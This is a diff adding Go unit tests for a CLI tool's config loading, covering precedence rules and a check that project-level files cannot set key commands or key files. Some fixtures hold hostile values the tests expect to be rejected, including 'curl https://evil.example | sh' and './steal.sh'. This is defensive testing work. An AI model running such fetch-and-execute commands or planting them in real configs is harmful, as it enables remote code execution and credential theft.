@@ -0,0 +1,248 @@
+package cli
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/pkg/errors"
+	"github.com/spf13/cobra"
+)
+
+// withConfig writes the user and project config files into temporary dirs and points the
+// config lookup and the working dir at them for the test
+func withConfig(t *testing.T, user string, project string) {
+	t.Helper()
+	home, work := t.TempDir(), t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", home)
+	writeFile(t, filepath.Join(home, "terraform-assistant", "config.yaml"), user)
+	writeFile(t, filepath.Join(work, ".terraform-assistant.yaml"), project)
+
+	oldWorkingDir, oldProfile := *workingDir, *profile
+	*workingDir, *profile = work, ""
+	configValues, configSources = map[string]string{}, map[string]string{}
+	t.Cleanup(func() {
+		*workingDir, *profile = oldWorkingDir, oldProfile
+		configValues, configSources = map[string]string{}, map[string]string{}
+	})
+}
+
+// writeFile writes the content to path, creating its dir, an empty content writes nothing
+func writeFile(t *testing.T, path string, content string) {
+	t.Helper()
+	if content == "" {
+		return
+	}
+	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// newTestCommand returns a command with string flags of the given names, parsed from args
+func newTestCommand(t *testing.T, args []string, names ...string) *cobra.Command {
+	t.Helper()
+	cmd := &cobra.Command{Use: "test"}
+	for _, name := range names {
+		cmd.Flags().String(name, "", "")
+	}
+	if err := cmd.ParseFlags(args); err != nil {
+		t.Fatal(err)
+	}
+	return cmd
+}
+
+func TestApplyConfigUserOnly(t *testing.T) {
+	tests := []struct {
+		name    string
+		user    string
+		project string
+		want    string
+		wantErr bool
+	}{
+		{
+			name: "user settings",
+			user: "settings:\n  api-key-command: pass show openai\n  api-key-file: /home/me/key\n",
+			want: "pass show openai",
+		},
+		{
+			name: "user profile",
+			user: "profile: work\nprofiles:\n  work:\n    api-key-command: pass show openai\n",
+			want: "pass show openai",
+		},
+		{
+			name:    "project settings",
+			project: "settings:\n  api-key-command: curl https://evil.example | sh\n",
+			wantErr: true,
+		},
+		{
+			name:    "project key file",
+			project: "settings:\n  api-key-file: ./key\n",
+			wantErr: true,
+		},
+		{
+			name:    "project profile",
+			project: "profile: ci\nprofiles:\n  ci:\n    api-key-command: ./steal.sh\n",
+			wantErr: true,
+		},
+		{
+			name:    "project profile extending a user profile",
+			user:    "profiles:\n  work:\n    api-key-command: pass show openai\n",
+			project: "profile: work\nprofiles:\n  work:\n    api-key-command: ./steal.sh\n",
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			withConfig(t, tt.user, tt.project)
+			t.Setenv("API_KEY_COMMAND", "")
+			t.Setenv("API_KEY_FILE", "")
+			cmd := newTestCommand(t, nil, "api-key-command", "api-key-file")
+			err := applyConfig(cmd)
+			if tt.wantErr {
+				if !errors.Is(err, errFlag) {
+					t.Fatalf("applyConfig() error = %v, want %v", err, errFlag)
+				}
+				if value, _ := cmd.Flags().GetString("api-key-command"); value != "" {
+					t.Errorf("api-key-command = %q, want it unset", value)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("applyConfig() error = %v", err)
+			}
+			if value, _ := cmd.Flags().GetString("api-key-command"); value != tt.want {
+				t.Errorf("api-key-command = %q, want %q", value, tt.want)
+			}
+		})
+	}
+}
+
+func TestApplyConfigPrecedence(t *testing.T) {
+	const user = `profile: home
+settings:
+  model: user
+  backend: user
+profiles:
+  home:
+    backend: user-profile
+  work:
+    model: user-work
+`
+	const project = `settings:
+  model: project
+profiles:
+  work:
+    backend: project-work
+`
+	tests := []struct {
+		name        string
+		project     string
+		args        []string
+		profile     string
+		env         string
+		wantModel   string
+		wantSource  string
+		wantBackend string
+	}{
+		{
+			name:        "user file with its default profile",
+			wantModel:   "user",
+			wantSource:  "user",
+			wantBackend: "user-profile",
+		},
+		{
+			name:        "project over user",
+			project:     project,
+			wantModel:   "project",
+			wantSource:  "project",
+			wantBackend: "user-profile",
+		},
+		{
+			name:        "profile over project, the project definition over the user one",
+			project:     project,
+			profile:     "work",
+			wantModel:   "user-work",
+			wantSource:  "profile work",
+			wantBackend: "project-work",
+		},
+		{
+			name:        "project default profile over the user one",
+			project:     "profile: work\n" + project,
+			wantModel:   "user-work",
+			wantSource:  "profile work",
+			wantBackend: "project-work",
+		},
+		{
+			name:        "env over profile",
+			project:     project,
+			profile:     "work",
+			env:         "env",
+			wantModel:   "env",
+			wantSource:  sourceEnv,
+			wantBackend: "project-work",
+		},
+		{
+			name:        "flag over env",
+			project:     project,
+			args:        []string{"--model", "flag"},
+			env:         "env",
+			wantModel:   "flag",
+			wantSource:  sourceFlag,
+			wantBackend: "user-profile",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			withConfig(t, user, tt.project)
+			*profile = tt.profile
+			// the env value stands in for the flag default read from OPENAI_MODEL at startup
+			t.Setenv("OPENAI_MODEL", tt.env)
+			t.Setenv("BACKEND", "")
+			cmd := newTestCommand(t, tt.args, "model", "backend")
+			if tt.env != "" && len(tt.args) == 0 {
+				if err := cmd.Flags().Set("model", tt.env); err != nil {
+					t.Fatal(err)
+				}
+				cmd.Flags().Lookup("model").Changed = false
+			}
+			if err := applyConfig(cmd); err != nil {
+				t.Fatalf("applyConfig() error = %v", err)
+			}
+			if value, source := configValue(cmd, "model"); value != tt.wantModel || source != tt.wantSource {
+				t.Errorf("model = %q from %q, want %q from %q", value, source, tt.wantModel, tt.wantSource)
+			}
+			if value, _ := cmd.Flags().GetString("backend"); value != tt.wantBackend {
+				t.Errorf("backend = %q, want %q", value, tt.wantBackend)
+			}
+		})
+	}
+}
+
+func TestApplyConfigProjectDenied(t *testing.T) {
+	for key := range userOnly {
+		t.Run(key, func(t *testing.T) {
+			name, ok := flagEnv[key]
+			if !ok {
+				name = strings.ToUpper(strings.ReplaceAll(key, "-", "_"))
+			}
+			t.Setenv(name, "")
+			withConfig(t, "", "settings:\n  "+key+": x\n")
+			if err := applyConfig(newTestCommand(t, nil, key)); !errors.Is(err, errFlag) {
+				t.Errorf("applyConfig() of %s in the project file error = %v, want %v", key, err, errFlag)
+			}
+
+			withConfig(t, "settings:\n  "+key+": x\n", "")
+			cmd := newTestCommand(t, nil, key)
+			if err := applyConfig(cmd); err != nil {
+				t.Fatalf("applyConfig() of %s in the user file error = %v", key, err)
+			}
+			if value, _ := cmd.Flags().GetString(key); value != "x" {
+				t.Errorf("%s = %q, want the user value", key, value)
+			}
+		})
+	}
+}